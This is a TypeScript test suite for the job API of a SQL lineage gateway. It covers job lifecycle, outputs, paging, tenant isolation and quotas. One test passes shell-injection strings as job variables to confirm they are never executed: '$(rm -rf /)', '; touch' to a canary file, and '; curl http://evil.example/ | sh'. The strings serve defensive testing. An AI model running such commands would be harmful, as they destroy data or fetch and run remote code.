// Zetyun jobs through HTTP (spec §B.4, §B.8): run by form, lifecycle to SUCCEEDED, outputs equal to
// the SQLFlow API's lineage, list/log paging, stop rules, bad ids, isolation, quotas, shell
// metacharacters as data; on both stores.
import t from 'tap'
import { existsSync } from 'node:fs'
import type { FastifyInstance } from 'fastify'
import { multipart } from '../../helpers/build-app.js'
import { onEachStore } from '../koodrive/stores.js'
import { NOT_FOUND, PASSWORD, call, formBody, newTenant, uniq, zetyunApp } from './helpers.js'

const JOB_KEYS = ['autoKey', 'createdTime', 'creator', 'description', 'endTime', 'env', 'extension', 'isIncremental', 'isPrivate', 'name', 'notification', 'opStatus', 'projectId', 'projectVersionId', 'sourceId', 'startTime', 'status', 'variable']
const FILES = [
  { name: 'stage.sql', text: 'CREATE TABLE stg_orders (id INT, customer_id INT, amount DECIMAL(10,2));\n' },
  { name: 'mart.sql', text: 'INSERT INTO fct_sales (customer_id, total_amount)\nSELECT o.customer_id, SUM(o.amount) FROM stg_orders o GROUP BY o.customer_id;\n' },
]

const runForm = (app: FastifyInstance, token: string, projectId: number | string, pairs: Record<string, string>) => {
  const f = formBody(pairs)
  return app.inject({ method: 'POST', url: `/tf/job/run/${projectId}`, payload: f.payload, headers: { ...f.headers, 'x-access-token': token } })
}

async function waitDone (app: FastifyInstance, token: string, id: number): Promise<number[]> {
  const seen: number[] = []
  for (let i = 0; i < 600; i++) {
    const s = (await call(app, 'GET', `/tf/job/onlystatus/${id}`, token)).json().data.status as number
    if (seen.at(-1) !== s) seen.push(s)
    if (s >= 2) return seen
    await new Promise((r) => setTimeout(r, 20))
  }
  throw new Error(`job ${id} did not finish: ${seen.join(',')}`)
}

onEachStore(t, 'zy-jobs', async (t, store) => {
  const { app, zy } = await zetyunApp(t, store)
  const a = await newTenant(zy)
  const b = await newTenant(zy)
  const project = async (token: string, workflow: unknown[] = [
    { id: 'lineage', moduleId: 1, params: { dbvendor: 'dbvmssql', showRelationType: 'fdd' }, inputs: { sql: FILES.map((f) => f.name) } },
    { id: 'export', moduleId: 2, params: { dbvendor: 'dbvmssql' }, inputs: { sql: FILES.map((f) => f.name) } },
  ]) => (await call(app, 'POST', '/projects', token, { name: uniq('p'), workflow, files: FILES })).json().data.id as number
  const pid = await project(a.token)

  t.test('run by form: a job with the documented fields, then 0 → 2 with downloadable outputs', async (t) => {
    const res = await runForm(app, a.token, pid, { name: 'nightly', description: 'd', notification: 'ops@example.com, lead@example.com', cc: 'cc@example.com' })
    t.equal(res.statusCode, 200)
    const job = res.json().data
    t.same(Object.keys(job).sort(), JOB_KEYS)
    t.equal(typeof job.autoKey, 'number')
    t.equal(job.status, 0)
    t.equal(job.opStatus, 0)
    t.equal(job.startTime, null)
    t.equal(job.endTime, null)
    t.equal(job.projectId, pid)
    t.equal(typeof job.creator, 'number')
    t.same(job.notification, { to: ['ops@example.com', 'lead@example.com'], cc: ['cc@example.com'] })
    const extra = (await runForm(app, a.token, pid, { name: 'extra', group: '0', status: '9', creator: '2', autoKey: '1', opStatus: '1' })).json().data
    t.same([extra.status, extra.opStatus, extra.creator === job.creator, extra.autoKey > job.autoKey], [0, 0, true, true], 'client-sent status/creator/autoKey are ignored')
    await waitDone(app, a.token, extra.autoKey)
    const seen = await waitDone(app, a.token, job.autoKey)
    t.equal(seen.at(-1), 2, `statuses seen: ${seen.join(' → ')}`)
    t.same(seen.filter((s) => ![0, 1, 2].includes(s)), [])
    t.same(seen, [...seen].sort(), 'never goes backwards')
    const full = (await call(app, 'GET', `/tf/job/status/${job.autoKey}`, a.token)).json().data
    t.ok(full.startTime !== null && full.endTime !== null && full.endTime >= full.startTime)
    t.same(full.steps, [{ id: 'lineage', moduleId: 1, status: 2 }, { id: 'export', moduleId: 2, status: 2 }])
    const outputs = (await call(app, 'GET', `/tf/job/output/${job.autoKey}`, a.token)).json().data
    t.same(outputs.map((o: { name: string }) => o.name), ['export/lineage.graphml', 'export/openlineage.ndjson', 'lineage/lineage.csv', 'lineage/lineage.json'])
    const csv = await call(app, 'GET', `/tf/job/output/${job.autoKey}/lineage/lineage.csv`, a.token)
    t.equal(csv.statusCode, 200)
    t.match(csv.headers['content-type'], /^text\/csv/)
    t.match(csv.headers['content-disposition'], /attachment; filename="lineage.csv"/)
    t.match(csv.body.toLowerCase(), /fct_sales/)
    const ol = await call(app, 'GET', `/tf/job/output/${job.autoKey}/export/openlineage.ndjson`, a.token)
    t.ok(ol.body.trim().split('\n').every((line) => JSON.parse(line).eventType === 'COMPLETE'))
    t.match((await call(app, 'GET', `/tf/job/output/${job.autoKey}/export/lineage.graphml`, a.token)).body, /<graphml/)
    t.equal((await call(app, 'GET', `/tf/job/output/${job.autoKey}/nope.json`, a.token)).statusCode, 404)
    t.equal((await call(app, 'GET', `/tf/job/output/${job.autoKey}/lineage/lineage.json`, b.token)).statusCode, 404, 'other tenant')

    // The same files through the SQLFlow job API give the same model.
    await app.users.create('zy-compare')
    const sqlflowToken = app.auth.issueSqlflowToken('zy-compare')
    const sub = multipart([{ name: 'userId', value: 'zy-compare' }, { name: 'token', value: sqlflowToken }, { name: 'jobName', value: 'cmp' }, { name: 'dbvendor', value: 'dbvmssql' },
      ...FILES.map((f) => ({ name: 'sqlfiles', value: f.text, filename: f.name }))])
    const submitted = (await app.inject({ method: 'POST', url: '/gspLive_backend/sqlflow/job/submitUserJob', payload: sub.payload, headers: sub.headers })).json()
    t.equal(submitted.code, 200)
    let done
    for (let i = 0; i < 600; i++) {
      done = (await app.inject({ method: 'POST', url: '/gspLive_backend/sqlflow/job/displayUserJobSummary', payload: { userId: 'zy-compare', token: sqlflowToken, jobId: submitted.data.jobId } })).json().data
      if (['success', 'partial_success', 'fail'].includes(done.status)) break
      await new Promise((r) => setTimeout(r, 20))
    }
    t.equal(done.status, 'success')
    const sqlflow = (await app.inject({ method: 'POST', url: '/gspLive_backend/sqlflow/job/exportFullLineageAsJson', payload: { userId: 'zy-compare', token: sqlflowToken, jobId: submitted.data.jobId } })).json()
    const ours = JSON.parse((await call(app, 'GET', `/tf/job/output/${job.autoKey}/lineage/lineage.json`, a.token)).body)
    t.ok(ours.relations.length > 0, 'lineage was found')
    t.same(ours, sqlflow.data, 'the Zetyun SQL Lineage output equals the SQLFlow API model for the same files')
  })

  t.test('list and log page correctly', async (t) => {
    const ids: number[] = []
    for (let i = 0; i < 3; i++) {
      const r = await runForm(app, a.token, pid, { name: `list${i}` })
      ids.push(r.json().data.autoKey)
      await waitDone(app, a.token, r.json().data.autoKey)
    }
    const p1 = (await call(app, 'GET', `/tf/job/list?projectId=${pid}&num=2&page=1&order_key=id&order_by=asc`, a.token)).json()
    const p2 = (await call(app, 'GET', `/tf/job/list?projectId=${pid}&num=2&page=2&order_key=id&order_by=asc`, a.token)).json()
    const p3 = (await call(app, 'GET', `/tf/job/list?projectId=${pid}&num=2&page=3&order_key=id&order_by=asc`, a.token)).json()
    t.equal(p1.total, 5, 'two jobs of the first test plus three')
    const all = [...p1.data, ...p2.data, ...p3.data].map((j: { autoKey: number }) => j.autoKey)
    t.same(all, [...all].sort((x, y) => x - y))
    t.equal(new Set(all).size, 5)
    t.same(all.slice(2), ids)
    t.equal((await call(app, 'GET', '/tf/job/list?status=2', a.token)).json().total, 5)
    t.equal((await call(app, 'GET', '/tf/job/list?status=1', a.token)).json().total, 0)
    t.equal((await call(app, 'GET', '/tf/job/list', b.token)).json().total, 0, 'other tenant sees none')
    for (const q of ['order_key=pwdhash', 'status=9', 'num=0', 'projectId=abc']) t.equal((await call(app, 'GET', `/tf/job/list?${q}`, a.token)).statusCode, 400, q)
    const log = (await call(app, 'GET', `/tf/job/log/${ids[0]}`, a.token)).json().data
    t.ok(log.total >= 4)
    t.equal(log.complete, true)
    t.match(log.lines[0], /job created/)
    t.match(log.lines.at(-1), /job succeeded/)
    const first = (await call(app, 'GET', `/tf/job/log/${ids[0]}?offset=0&limit=2`, a.token)).json().data
    const rest = (await call(app, 'GET', `/tf/job/log/${ids[0]}?offset=${first.nextOffset}`, a.token)).json().data
    t.same([...first.lines, ...rest.lines], log.lines, 'offset continuation')
    t.equal(first.complete, false)
  })

  t.test('stop rules: 409 on a succeeded job', async (t) => {
    const r = await runForm(app, a.token, pid, { name: 'stopme' })
    await waitDone(app, a.token, r.json().data.autoKey)
    const stop = await call(app, 'POST', `/tf/job/stop/${r.json().data.autoKey}`, a.token)
    t.equal(stop.statusCode, 409)
    t.same(stop.json(), { code: 40901, msg: 'The job has already finished.', data: null })
  })

  t.test('bad ids, missing name, unknown or foreign projects', async (t) => {
    for (const id of ['abc', '0', '-1', '1e3', '0x10', '99999999999999999999']) {
      const res = await runForm(app, a.token, id, { name: 'x' })
      t.equal(res.statusCode, 400, id)
      t.equal(res.json().code, 40001)
    }
    t.same((await runForm(app, a.token, 987654, { name: 'x' })).json(), NOT_FOUND)
    const foreign = await runForm(app, b.token, pid, { name: 'x' })
    t.equal(foreign.statusCode, 404)
    t.same(foreign.json(), NOT_FOUND)
    const noName = await runForm(app, a.token, pid, { description: 'no name' })
    t.equal(noName.statusCode, 400)
    t.equal((await call(app, 'GET', '/tf/job/status/abc', a.token)).statusCode, 400)
    t.equal((await call(app, 'GET', '/tf/job/status/987654', a.token)).statusCode, 404)
  })

  t.test('notification limits', async (t) => {
    const many = Array.from({ length: 1000 }, (_, i) => `u${i}@e.io`)
    const json = await call(app, 'POST', `/tf/job/run/${pid}`, a.token, { name: 'spam', notification: many })
    t.equal(json.statusCode, 400, '1000 addresses (JSON)')
    t.equal(json.json().code, 40001)
    const form = await runForm(app, a.token, pid, { name: 'spam', notification: many.join(',') })
    t.equal(form.statusCode, 400, '1000 addresses (form)')
    t.match(form.json().msg, /notification/)
    t.equal((await runForm(app, a.token, pid, { name: 'spam', notification: many.slice(0, 21).join(',') })).json().msg, 'notification: at most 20 addresses')
    t.equal((await runForm(app, a.token, pid, { name: 'spam', cc: many.slice(0, 21).join(',') })).statusCode, 400)
    t.equal((await runForm(app, a.token, pid, { name: 'bad', cc: 'not an email' })).statusCode, 400)
    const huge = await call(app, 'POST', `/tf/job/run/${pid}`, a.token, { name: 'x', description: 'a'.repeat(1 << 20) })
    t.equal(huge.statusCode, 413)
    t.same(huge.json(), { code: 41301, msg: 'The request body is too large.', data: null })
    const hugeForm = await runForm(app, a.token, pid, { name: 'x', description: 'a'.repeat(1 << 20) })
    t.equal(hugeForm.statusCode, 413)
  })

  t.test('variables are data: stored and passed literally, never executed', async (t) => {
    const canary = `/tmp/zetyun-canary-${process.pid}`
    const variable = [{ name: 'note', value: '$(rm -rf /)' }, { name: 'x', value: `; touch ${canary}` }, `\`touch ${canary}\``, { name: 'showRelationType', value: 'fdd' }]
    const res = await call(app, 'POST', `/tf/job/run/${pid}`, a.token, { name: 'meta', variable })
    t.equal(res.statusCode, 200)
    t.same(res.json().data.variable, variable)
    const seen = await waitDone(app, a.token, res.json().data.autoKey)
    t.equal(seen.at(-1), 2, 'the job ran normally')
    t.same((await call(app, 'GET', `/tf/job/status/${res.json().data.autoKey}`, a.token)).json().data.variable, variable)
    t.equal(existsSync(canary), false, 'nothing was executed')
    const form = await runForm(app, a.token, pid, { name: 'formvar', variable: '; curl http://evil.example/ | sh' })
    t.same(form.json().data.variable, ['; curl http://evil.example/ | sh'], 'a non-JSON form value is one literal entry')
    const vendor = await call(app, 'POST', `/tf/job/run/${pid}`, a.token, { name: 'v', variable: [{ name: 'dbvendor', value: `dbvoracle; touch ${canary}` }] })
    const vs = await waitDone(app, a.token, vendor.json().data.autoKey)
    t.equal(vs.at(-1), 3, 'a param override is validated as data: unknown vendor fails the job')
    const log = (await call(app, 'GET', `/tf/job/log/${vendor.json().data.autoKey}`, a.token)).json().data.lines.join('\n')
    t.match(log, /unknown dbvendor "dbvoracle; touch/)
    t.equal(existsSync(canary), false)
  })

  t.test('a module whose Cmd is not built in is stored but never runs', async (t) => {
    const mod = (await call(app, 'POST', '/tf/module', a.token, {
      name: 'shell', spec: { Name: 'shell', Description: '', Version: '1', CategoryTags: [], Cmd: 'sh -c "touch /tmp/zetyun-cmd-canary"', Param: {}, Input: {}, Output: {} },
    })).json().data
    t.equal(mod.spec.Cmd, 'sh -c "touch /tmp/zetyun-cmd-canary"', 'stored as given')
    const p = await project(a.token, [{ id: 'run', moduleId: mod.id }])
    const res = await runForm(app, a.token, p, { name: 'try' })
    t.equal(res.statusCode, 400)
    t.same(res.json(), { code: 40001, msg: `Module "shell" (id ${mod.id}) is not a built-in module: this gateway runs only its built-in commands and never executes a module's Cmd.`, data: null })
    t.equal(existsSync('/tmp/zetyun-cmd-canary'), false)
  })

  t.test('private jobs: 404 for other users, visible to the creator and admins', async (t) => {
    const name = uniq('priv')
    await call(app, 'POST', '/user', a.token, { name, email: `${name}@example.com`, password: PASSWORD })
    const other = uniq('oth')
    await call(app, 'POST', '/user', a.token, { name: other, email: `${other}@example.com`, password: PASSWORD })
    const userToken = (await call(app, 'POST', '/user/login', undefined, { name, password: PASSWORD })).json().data.token
    const otherToken = (await call(app, 'POST', '/user/login', undefined, { name: other, password: PASSWORD })).json().data.token
    const job = (await call(app, 'POST', `/tf/job/run/${pid}`, userToken, { name: 'secret', isPrivate: true })).json().data
    t.equal(job.isPrivate, true)
    t.equal((await call(app, 'GET', `/tf/job/status/${job.autoKey}`, userToken)).statusCode, 200)
    t.equal((await call(app, 'GET', `/tf/job/status/${job.autoKey}`, a.token)).statusCode, 200, 'admin sees it')
    for (const path of ['status', 'onlystatus', 'log', 'output']) {
      const res = await call(app, 'GET', `/tf/job/${path}/${job.autoKey}`, otherToken)
      t.equal(res.statusCode, 404, path)
      t.same(res.json(), NOT_FOUND)
    }
    t.equal((await call(app, 'POST', `/tf/job/stop/${job.autoKey}`, otherToken)).statusCode, 404)
    t.equal((await call(app, 'GET', `/tf/job/status/${job.autoKey}`, b.token)).statusCode, 404, 'other tenant admin')
    t.notOk((await call(app, 'GET', '/tf/job/list?num=200', otherToken)).json().data.some((j: { autoKey: number }) => j.autoKey === job.autoKey))
    await waitDone(app, userToken, job.autoKey)
  })

  t.test('queued jobs: stop cancels at once; 1000 parallel runs hit the active-job quota (429)', async (t) => {
    // No consumer in this app (as with REDIS_URL and `npm run worker` stopped): jobs stay queued.
    const idle = await zetyunApp(t, store, { jobs: { embeddedWorker: false } } as never)
    const c = await newTenant(idle.zy)
    const p = (await call(idle.app, 'POST', '/projects', c.token, { name: 'q', workflow: [{ id: 'l', moduleId: 1, inputs: { sql: ['a.sql'] } }], files: [{ name: 'a.sql', text: 'select 1;' }] })).json().data.id
    const answers = await Promise.all(Array.from({ length: 1000 }, (_, i) => call(idle.app, 'POST', `/tf/job/run/${p}`, c.token, { name: `burst${i}` })))
    const ok = answers.filter((r) => r.statusCode === 200)
    const limited = answers.filter((r) => r.statusCode === 429)
    t.equal(ok.length, 10, 'exactly the quota of active jobs')
    t.equal(limited.length, 990)
    t.same(limited[0]!.json(), { code: 42901, msg: 'At most 10 active jobs per user.', data: null })
    t.equal(limited[0]!.headers['retry-after'], '60')
    const id = ok[0]!.json().data.autoKey
    const stop = await call(idle.app, 'POST', `/tf/job/stop/${id}`, c.token)
    t.equal(stop.statusCode, 200)
    t.equal(stop.json().data.status, 4, 'a queued job is cancelled immediately')
    t.equal(stop.json().data.opStatus, 0)
    t.ok(stop.json().data.endTime !== null)
    t.equal(stop.json().data.startTime, null)
    const again = await call(idle.app, 'POST', `/tf/job/stop/${id}`, c.token)
    t.equal(again.statusCode, 200, 'stop is idempotent on a cancelled job')
    t.equal(again.json().data.status, 4)
    t.equal((await call(idle.app, 'POST', `/tf/job/run/${p}`, c.token, { name: 'after' })).statusCode, 200, 'the cancelled job freed its slot')
    t.equal((await call(idle.app, 'POST', `/tf/job/run/${p}`, c.token, { name: 'after2' })).statusCode, 429)
  })
})
